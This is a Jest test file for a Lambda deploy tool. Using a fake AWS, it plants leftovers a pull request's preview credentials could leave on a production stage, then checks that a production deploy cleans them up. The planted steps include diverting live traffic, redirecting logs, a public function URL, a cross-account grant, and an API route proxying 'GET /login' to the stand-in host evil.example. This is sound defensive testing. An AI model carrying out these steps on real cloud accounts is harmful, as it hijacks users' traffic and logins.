/**
 * A stage deployed as a preview first (stage `main` of a project that had not
 * protected it yet), then protected and deployed with the production role:
 * what the preview role's credentials could leave on the stage's function and
 * HTTP API does not survive the production deploy. The leftovers are planted
 * with the fake's own clients, as a pull request's job holding the preview
 * role's credentials would.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import {
  AddPermissionCommand,
  CreateFunctionUrlConfigCommand,
  PublishVersionCommand,
  TagResourceCommand,
  UpdateAliasCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import { CreateIntegrationCommand, CreateRouteCommand } from '@aws-sdk/client-apigatewayv2';
import { appFolder, deployApp, removeApp } from '../../fakes/aws/pipeline-deploy.js';
import { ACCOUNT_ID, startFakeAws, type FakeAws } from '../../fakes/aws/index.js';
import { executionRoleName } from '../../src/resources/execution-role/execution-policy.js';

let aws: FakeAws;
let dir: string;
beforeEach(async () => {
  aws = await startFakeAws();
  aws.seed.setup('shop');
  dir = appFolder();
});
afterEach(async () => {
  await aws.close();
  removeApp(dir);
});

const fn = () => aws.account.functions.get('shop-main')!;

describe('a stage first deployed as a preview, then protected', () => {
  it('the production deploy takes the weights off live, its logs back to its own group, and foreign routes off its API', async () => {
    expect((await deployApp(aws, dir)).report.status).toBe('success');
    const { lambda, apiGatewayV2 } = aws.clients();
    // What the preview's credentials leave: a version of their own with a share of live's traffic,
    await lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName: 'shop-main', MemorySize: 512 }));
    aws.clock.advance(5_000);
    const planted = await lambda.send(new PublishVersionCommand({ FunctionName: 'shop-main' }));
    aws.clock.advance(5_000);
    await lambda.send(
      new UpdateAliasCommand({
        FunctionName: 'shop-main',
        Name: 'live',
        RoutingConfig: { AdditionalVersionWeights: { [planted.Version!]: 0.5 } },
      }),
    );
    // the function's logs sent to a pull request's log group (the preview role reads it), its own deleted,
    aws.account.logGroups.delete('/aws/lambda/shop-main');
    await lambda.send(
      new UpdateFunctionConfigurationCommand({
        FunctionName: 'shop-main',
        MemorySize: 256,
        LoggingConfig: { LogGroup: '/aws/lambda/shop-pr-7' },
      }),
    );
    aws.clock.advance(5_000);
    // and a route on the stage's API to a URL of theirs.
    const api = [...aws.account.httpApis.values()][0]!;
    const evil = await apiGatewayV2.send(
      new CreateIntegrationCommand({
        ApiId: api.ApiId,
        IntegrationType: 'HTTP_PROXY',
        IntegrationMethod: 'ANY',
        IntegrationUri: 'https://evil.example/login',
        PayloadFormatVersion: '1.0',
      }),
    );
    await apiGatewayV2.send(
      new CreateRouteCommand({
        ApiId: api.ApiId,
        RouteKey: 'GET /login',
        Target: `integrations/${evil.IntegrationId}`,
      }),
    );

    const run = await deployApp(aws, dir);

    expect(run.report.status).toBe('success');
    const live = fn().aliases.get('live')!;
    expect(live.RoutingConfig).toBeUndefined();
    expect(live.FunctionVersion).not.toBe(planted.Version);
    expect(fn().latest.LoggingConfig?.LogGroup).toBe('/aws/lambda/shop-main');
    expect(aws.account.logGroups.get('/aws/lambda/shop-main')?.tags).toMatchObject({
      'lambda-deploy:stage': 'main',
    });
    expect([...api.routes.values()].map((r) => r.routeKey)).toEqual(['$default']);
    const warnings = run.logger.text('warning');
    expect(warnings).toMatch(/traffic to version/);
    expect(warnings).toMatch(/\/aws\/lambda\/shop-pr-7/);
    expect(warnings).toMatch(/GET \/login/);
  });

  it('a public function URL on live, with our statements and a gateway tag saying http-api, is removed by the first production deploy (which changes the execution role back)', async () => {
    expect((await deployApp(aws, dir)).report.status).toBe('success');
    const { lambda } = aws.clients();
    // A door round the HTTP API (and an api-key, with a REST API): the preview role may make
    // function URLs, grant them, and write the lambda-deploy:gateway tag that says which kind to look for.
    await lambda.send(
      new CreateFunctionUrlConfigCommand({ FunctionName: 'shop-main', Qualifier: 'live', AuthType: 'NONE' }),
    );
    for (const [sid, action, extra] of [
      ['lambda-deploy-function-url', 'lambda:InvokeFunctionUrl', { FunctionUrlAuthType: 'NONE' as const }],
      ['lambda-deploy-function-url-invoke', 'lambda:InvokeFunction', { InvokedViaFunctionUrl: true }],
    ] as const)
      await lambda.send(
        new AddPermissionCommand({
          FunctionName: 'shop-main',
          Qualifier: 'live',
          StatementId: sid,
          Action: action,
          Principal: '*',
          ...extra,
        }),
      );
    await lambda.send(
      new TagResourceCommand({ Resource: fn().arn, Tags: { 'lambda-deploy:gateway': 'http-api' } }),
    );
    // Another account may invoke live (an id of the pull request's choosing: lambda-deploy cannot tell it from the owner's).
    await lambda.send(
      new AddPermissionCommand({
        FunctionName: 'shop-main',
        Qualifier: 'live',
        StatementId: 'partner',
        Action: 'lambda:InvokeFunction',
        Principal: '999999999999',
      }),
    );
    // Deployed by the preview role, the function ran as the preview execution role.
    await lambda.send(
      new UpdateFunctionConfigurationCommand({
        FunctionName: 'shop-main',
        Role: `arn:aws:iam::${ACCOUNT_ID}:role/${executionRoleName('shop', 'preview')}`,
      }),
    );
    aws.clock.advance(5_000);

    const run = await deployApp(aws, dir);

    expect(run.report.status).toBe('success');
    expect(fn().urls.has('live')).toBe(false);
    const sids = (fn().policies.get('live')?.statements ?? []).map((s) => s.Sid);
    expect(sids.sort()).toEqual(['lambda-deploy-http-api', 'partner']);
    expect(run.logger.text('warning')).toMatch(
      /Removed a front door of protected stage main that its deploys did not set up \(gateway is http-api\): function URL of shop-main:live/,
    );
    expect(run.logger.text('warning')).toMatch(
      /Protected stage main was deployed by another role before \(its function ran as arn:aws:iam::\d+:role\/shop-lambda-deploy-preview\).*partner \(.*999999999999.* may lambda:InvokeFunction\)/,
    );
    // Said once: the next deploy finds production's role.
    const next = await deployApp(aws, dir);
    expect(next.logger.text('warning')).toBe('');
  });
});
